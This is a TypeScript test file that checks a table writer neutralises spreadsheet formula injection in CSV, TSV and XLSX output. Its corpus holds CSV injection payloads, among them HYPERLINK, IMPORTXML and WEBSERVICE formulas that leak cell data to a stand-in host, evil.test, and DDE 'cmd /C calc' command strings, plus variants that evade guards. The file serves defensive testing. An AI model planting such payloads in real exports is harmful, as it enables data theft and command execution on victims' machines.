import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import type { TableColumn } from '#main/writing/table-column.ts';
import { writeTable } from '#main/writing/write-table.ts';
import { readXlsx } from './read-xlsx.ts';

/**
 * What people have put into tables so that a spreadsheet would carry it out: OWASP's page on CSV injection, and the
 * ways around simple guards (a space or a mark in front, full-width signs, line ends, quotes and separators inside).
 */
const corpus = [
  '=1+1',
  '=HYPERLINK("https://evil.test?leak="&A1,"Press here")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.test/?v=",A2),"//a")',
  '=WEBSERVICE("https://evil.test")',
  '+1+1',
  "+cmd|' /C notepad'!'A1'",
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '",=1+1,"',
  '"\r\n=1+1\r\n"',
  'x",=1+1',
  'x\t=1+1',
  'x\r\n=1+1',
  '==1',
  '=',
] as const;

const columns: readonly TableColumn<string>[] = [
  { name: 'payload', kind: 'text', value: (row) => row },
  { name: 'list', kind: 'text', value: (row) => [row, 'x'] },
  { name: 'after', kind: 'text', value: () => 'after' },
];

const executable = /^[=+\-@\t\r\n＝＋－＠]/;

async function written(format: Parameters<typeof writeTable>[0]): Promise<Buffer> {
  async function* pieces() {
    yield corpus;
  }
  const parts: Buffer[] = [];
  for await (const part of writeTable(format, columns, pieces())) parts.push(Buffer.from(part));
  return Buffer.concat(parts);
}

/** Cells as a spreadsheet cuts them: quotes hold what is between them, nothing else does. */
function cells(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  const pattern = new RegExp(`"((?:[^"]|"")*)"|([^"${separator}\\r\\n]*)`, 'y');
  for (let at = 0; at < text.length; ) {
    pattern.lastIndex = at;
    const found = pattern.exec(text);
    rows.at(-1)?.push(found?.[1]?.replaceAll('""', '"') ?? found?.[2] ?? '');
    at += found?.[0].length ?? 0;
    if (text.startsWith('\r\n', at)) {
      at += 2;
      if (at < text.length) rows.push([]);
    } else if (text[at] === separator) at += 1;
    else throw new Error(`A cell that does not end at ${at}: ${text.slice(at, at + 20)}`);
  }
  return rows;
}

describe('what was put into a table to be carried out', () => {
  it.each([
    ['csv', ','],
    ['csv-excel', ','],
    ['tsv', '\t'],
  ] as const)('is text in %s, in one cell, and is there whole', async (format, separator) => {
    const text = (await written(format)).toString('utf8').replace(/^\uFEFF/, '');
    const [head, ...rows] = cells(text, separator);
    expect(head).toEqual(['payload', 'list', 'after']);
    expect(rows).toHaveLength(corpus.length);
    for (const [place, row] of rows.entries()) {
      const payload = corpus[place] ?? '';
      const safe = executable.test(payload) ? `'${payload}` : payload;
      expect(row).toEqual([safe, `${safe}; x`, 'after']);
      for (const cell of row) expect(cell).not.toMatch(executable);
    }
  });

  it('is the same text that csv-stringify guards', async () => {
    const plain = corpus.filter((payload) => !/[\r\n]/.test(payload));
    for (const payload of plain) {
      const [row] = cells(stringify([[payload]], { escape_formulas: true, record_delimiter: '\r\n' }), ',');
      expect(row).toEqual([executable.test(payload) ? `'${payload}` : payload]);
    }
  });

  it('is text in a workbook, and none of it a formula', async () => {
    const bytes = await written('xlsx');
    const [, ...rows] = readXlsx(bytes);
    expect(rows.map(([payload]) => payload)).toEqual([...corpus]);
  });
});
